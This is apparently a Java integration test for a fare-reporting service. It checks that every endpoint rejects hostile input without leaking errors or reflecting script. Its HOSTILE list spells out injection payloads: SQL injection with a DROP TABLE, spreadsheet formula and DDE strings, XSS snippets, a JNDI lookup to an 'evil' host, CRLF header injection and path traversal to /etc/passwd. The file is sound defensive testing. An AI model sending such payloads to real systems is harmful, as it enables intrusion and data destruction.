package io.baytap.reporting;

import static io.restassured.RestAssured.get;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;

import io.baytap.reporting.domain.BusinessDay;
import io.baytap.reporting.domain.report.ReportKind;
import io.baytap.schemas.Topics;
import io.baytap.schemas.fares.v1.FareKind;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.MethodSource;

/** What cannot be answered, asked of every report and every screen: refused by its field, and nothing is given away. */
@QuarkusTest
@QuarkusTestResource(ReportingStack.class)
class BadRequestsIT {

    private static final Duration LIMIT = Duration.ofMinutes(2);
    private static final String DAY = "from=2026-02-11&to=2026-02-11";
    private static final TravelDay TRAVELLED = new TravelDay(LocalDate.of(2026, 2, 12));

    /** What means something to SQL, a spreadsheet, HTML, a template, a log or a file system, and a byte that no text has. */
    static final List<String> HOSTILE = List.of(
            "x' or 1=1 --",
            "'; drop table fare_record; --",
            "1}'::bigint[]) or true --",
            "=HYPERLINK(\"http://evil\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "{inject:visit}",
            "${jndi:ldap://evil}",
            "a\r\nSet-Cookie: x=y",
            "../../etc/passwd",
            "a\u0000b",
            "\u202e\ud83d\ude80".repeat(40));

    /** Where a text is taken, and by which name; what is in no query is in the path. */
    private static final List<String> TAKEN = List.of(
            "/v1/reports/operators.csv?" + DAY + "&operator={text}",
            "/v1/reports/operators.csv?" + DAY + "&wallet={text}",
            "/v1/reports/operators.csv?" + DAY + "&by={text}",
            "/v1/reports/operators.csv?" + DAY + "&asOf={text}",
            "/v1/reports/operators.csv?to=2026-02-11&from={text}",
            "/v1/reports/{text}.csv?" + DAY,
            "/v1/reports/operators.{text}?" + DAY,
            "/v1/days/{text}",
            "/v1/breaks?reason={text}",
            "/v1/breaks?wallet={text}",
            "/v1/breaks/{text}",
            "/v1/rides/{text}",
            "/v1/open-data/{text}.csv?day=2026-02-11",
            "/v1/open-data/journeys-by-hour.csv?day={text}",
            "/v1/open-data/journeys-by-hour.csv?month={text}",
            "/reports?report={text}&" + DAY,
            "/reports?report=operators&" + DAY + "&operator={text}",
            "/reconciliation?owner={text}",
            "/reconciliation/{text}",
            "/money?day={text}",
            "/money/days/{text}/batches.csv",
            "/line?day={text}",
            "/?day={text}",
            "/trace/{text}");

    static Stream<Arguments> hostile() {
        return TAKEN.stream().flatMap(path -> HOSTILE.stream().map(text -> Arguments.of(path, text)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void aTextThatMeansSomethingElsewhereIsRefusedAndMeansNothing(String path, String text) {
        Response answer = ask(path, text);

        assertThat(answer.statusCode()).isBetween(400, 499);
        harmless(answer);
        assertThat(answer.header("Set-Cookie")).isNull();
    }

    /** A search finds nothing by them, which is no fault; what was looked for is shown as text. */
    @ParameterizedTest
    @FieldSource("HOSTILE")
    void aSearchForATextThatMeansSomethingElsewhereShowsItAsText(String text) {
        for (String path : List.of("/trace?id={text}", "/v1/trace?id={text}")) {
            Response answer = ask(path, text);

            assertThat(answer.statusCode()).isIn(200, 400);
            harmless(answer);
        }
    }

    private static Response ask(String path, String text) {
        String encoded = URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
        return given().urlEncodingEnabled(false).get(path.replace("{text}", encoded));
    }

    private static void harmless(Response answer) {
        String body = answer.asString();
        if (answer.contentType().startsWith("text/html")) {
            assertThat(body).doesNotContain("<script>alert", "<img src=x", "onerror=alert(1)>");
        } else {
            assertThat(answer.contentType()).isIn("application/problem+json", "application/json;charset=UTF-8");
        }
        assertThat(body).doesNotContain("PSQL", "PgException", "postgres", "Exception", "at io.baytap", "root:");
    }

    @ParameterizedTest
    @EnumSource(ReportKind.class)
    void everyReportRefusesARangeADayAndACodeThatCannotBe(ReportKind kind) {
        String future = BusinessDay.of(Instant.now()).plusDays(1).toString();
        for (String format : List.of("csv", "xlsx", "json", "sdmx.csv")) {
            if (format.equals("sdmx.csv") && !kind.isStatistic()) {
                continue;
            }
            String path = "/v1/reports/" + kind.title() + "." + format + "?";
            refused(path + "from=2025-02-10&to=2026-02-11", "to", "RANGE_TOO_LONG");
            refused(path + "from=" + future + "&to=" + future, "from", "FUTURE_DAY");
            refused(path + DAY + "&operator=NOBODY", "operator", "UNKNOWN_CODE");
            refused(path + DAY + "&wallet=NOTHING", "wallet", "UNKNOWN_CODE");
        }
        get("/reports?report=" + kind.title() + "&" + DAY + "&operator=NOBODY&lang=en")
                .then()
                .statusCode(400)
                .body(containsString("There is no such entry."));
    }

    @ParameterizedTest
    @CsvSource({"/v1/days/{day}", "/?day={day}", "/money?day={day}", "/line?day={day}"})
    void aDayThatHasNotBegunIsRefusedAndTodayIsNot(String path) {
        LocalDate today = BusinessDay.of(Instant.now());
        refused(path.replace("{day}", today.plusDays(1).toString()), "day", "FUTURE_DAY");

        get(path.replace("{day}", today.toString())).then().statusCode(200);
    }

    /** Whoever was ever heard of is known on any day, and so is whoever the settings name. */
    @Test
    void anOperatorIsKnownByAnythingThatWasEverCountedOfItAndByTheSettings() {
        try (Line line = new Line(ReportingStack.stack())) {
            line.send(Topics.SETTLEMENTS_POSTED, TRAVELLED.homeFare("FARES_ALONE", "k", FareKind.FARE, 330));
            line.send(
                    Topics.TAPS_REJECTED, TRAVELLED.rejected("g", 1, "TAPS_ALONE", TRAVELLED.at(8, 0), "CODE_EXPIRED"));
            line.send(Topics.CHARGES_REFUNDED, TRAVELLED.refunded("r", "CHARGES_ALONE", 330));
        }
        for (String operator : List.of("FARES_ALONE", "TAPS_ALONE", "CHARGES_ALONE", ReportingStack.NAMED_OPERATOR)) {
            String path = "/v1/reports/operators.json?" + DAY + "&operator=" + operator;
            await().atMost(LIMIT)
                    .untilAsserted(() -> get(path).then().statusCode(200).body("rows", equalTo(List.of())));
        }

        get("/v1/reports/operators.json?" + DAY + "&operator=fares_alone")
                .then()
                .statusCode(400)
                .body("field", equalTo("operator"), "reason", equalTo("UNKNOWN_CODE"))
                .body("detail", containsString("CHARGES_ALONE"))
                .body("detail", containsString("FARES_ALONE"))
                .body("detail", containsString("TAPS_ALONE"))
                .body("detail", containsString(ReportingStack.NAMED_OPERATOR));
    }

    private static void refused(String path, String field, String reason) {
        get(path)
                .then()
                .statusCode(400)
                .contentType("application/problem+json")
                .body("field", equalTo(field), "reason", equalTo(reason));
    }
}
